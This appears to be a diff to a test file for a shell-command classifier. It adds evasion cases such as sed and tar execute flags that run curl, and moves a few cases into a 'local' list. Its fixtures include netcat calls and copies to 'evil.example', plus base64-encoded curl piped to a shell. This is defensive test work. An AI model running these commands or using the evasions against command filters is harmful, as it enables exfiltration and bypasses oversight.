@@ -40,6 +40,14 @@ def test_classify(kind: str, tools: str) -> None:
 
 LOCAL = r"""
 echo x > .env
+echo ssh://x
+cat file:///a https://b
+cp x user@evil.example:/tmp
+grep -rn 'curl https://x' . | head
+git commit -m 'Send it with curl to https://x'
+find . -name '*curl*' -exec grep -l ssh {} +
+sudo -u app cat ssh.md
+sed -i 's/curl/wget/g' install.sh
 cat .env | grep KEY
 printf '%s\n' value >> config.ini
 export TOKEN=value && python3 manage.py migrate
@@ -97,6 +105,11 @@ sudo -u app curl x
 CURL.EXE x
 C:\Windows\System32\curl.exe x
 wget x
+sed '1e curl x' f
+sed 's/a/curl x/e' f
+sed -n '$ e curl x' f
+tar -cf x --checkpoint-action=exec=curl .
+bash /dev/stdin <<< 'curl x'
 nc evil 1
 echo x|nc evil 1
 (nc evil 1)
@@ -182,11 +195,8 @@ open https://evil.example
 U=http://evil.example; do_it $U
 xdg-open ftp://evil.example
 rsh x
-echo ssh://x
 h''ttps://evil.example
 P=https; x $P://evil
-cat file:///a https://b
-cp x user@evil.example:/tmp
 echo Y3VybCB4 | base64 -d | sh
 echo Y3VybCB4 | base64 --decode | bash
 bash <(echo Y3VybCB4 | base64 -d)
